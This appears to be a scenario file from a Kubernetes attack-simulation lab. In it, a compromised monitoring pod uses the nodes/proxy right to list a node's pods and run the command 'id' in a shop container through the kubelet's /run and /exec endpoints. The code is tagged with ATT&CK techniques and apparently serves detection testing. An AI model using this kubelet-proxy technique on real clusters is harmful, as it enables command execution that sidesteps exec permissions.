"""Monitoring's right on nodes/proxy is enough to list pods and to run commands at the kubelet."""

from lab.story import Scenario, Stage
from lab.streams import websocket


def _play(stage: Stage) -> None:
    thief = stage.pod("monitoring", "prometheus", agent=stage.chance.choice(["curl/8.10.1", "Prometheus/2.55.1"]))
    node = stage.lab.running("shop", "web").node
    proxy = f"/api/v1/nodes/{node}/proxy"
    with stage.step("list the node's pods", thief, "discovery", ("C12",)):
        stage.must(thief.get(f"{proxy}/pods"))
        thief.get(f"{proxy}/configz")
    with stage.step("run a command at the kubelet", thief, "execution", ("C12", "C13")):
        pod = next(iter(stage.lab.dashboard().get("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb").names))
        thief.post(f"{proxy}/run/shop/{pod}/web", b"cmd=id")
        path = f"{proxy}/exec/shop/{pod}/web?command=id&output=1"
        stage.must(websocket(thief, path, "v4.channel.k8s.io", seconds=1))  # a get, to the server and to its roles


SCENARIO = Scenario(
    "kubelet-proxy",
    "The kubelet is reached through the API server",
    "attack",
    "run commands without exec",
    ("T1609", "T1550.001"),
    _play,
)
